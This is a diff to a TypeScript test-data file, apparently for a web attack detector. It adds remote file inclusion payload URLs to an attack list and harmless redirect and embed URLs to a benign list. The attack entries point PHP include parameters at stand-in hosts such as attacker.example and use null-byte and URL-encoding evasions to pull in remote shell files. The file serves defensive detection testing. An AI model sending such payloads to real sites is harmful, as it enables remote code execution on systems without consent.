@@ -106,6 +106,12 @@ export const ATTACKS: Record<string, string[]> = {
   rfi: [
     'shop.example.com/index.php?page=http://198.51.100.7/shell.txt?',
     'shop.example.com/index.php?page=http://198.51.100.7/x.txt',
+    'shop.example.com/index.php?tmpl=http://files.example.net/t/shell.txt%3F.jpg',
+    'shop.example.com/index.php?file=http%3a%2f%2fattacker.example%2fn%3f.php',
+    'shop.example.com/index.php?page=http%3a%2f%2fattacker.example%2fn%3f%00.php',
+    'shop.example.com/index.php?view=https://attacker.example/inc/x?.register',
+    'shop.example.com/components/com_x/admin.x.php?mosConfig_absolute_path=http://attacker.example/x.txt?',
+    'shop.example.com/include.php?_CONF[path]=http://attacker.example/x',
   ],
   encoding_evasion: [
     'shop.example.com/cgi-bin/php-cgi?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C',
@@ -199,6 +205,15 @@ export const BENIGN_URIS: string[] = [
   'www.example.com/docs/php/function.system.html',
   'www.example.com/search?q=operating+system(s)+comparison',
   'www.example.com/a/b?id=8f14e45fceea167a&sig=AbCdEf0123456789%2B%2F%3D%3D',
+  'www.example.com/out?url=https%3A%2F%2Fdocs.example.org%2Fguide.pdf%3Fdl%3D1',
+  'cdn.example.com/img?src=https://images.example.net/a.png?v=3&w=200',
+  'www.example.com/r?to=https://www.example.org/page.html&utm=1',
+  'www.google-analytics.com/j/collect?v=1&dl=https%3A%2F%2Fwww.example.com%2Fpage.html%3Fq%3D1.5&dt=x',
+  'ads.example.net/click?redirect=https%3A%2F%2Fshop.example.com%2F%3F&cb=123',
+  'sync.example.com/getuid?gdpr=0&url=https://sync.example.net/sync?prtid=36&uid=$UID',
+  'pixel.example.com/sync/img?redir=https%3A//sync.example.net/sync%3Fimg%3D1%26mdid%3D%5BUID%5D',
+  'www.example.com/viewer?file=https://files.example.org/report-2024.pdf',
+  'www.example.com/embed?src=https%3A%2F%2Fvideo.example.org%2Fv%2Fabc.mp4%3Ft%3D10',
 ];
 
 /** Searches whose text is a payload: the search engine does not run it, so they make no finding. */
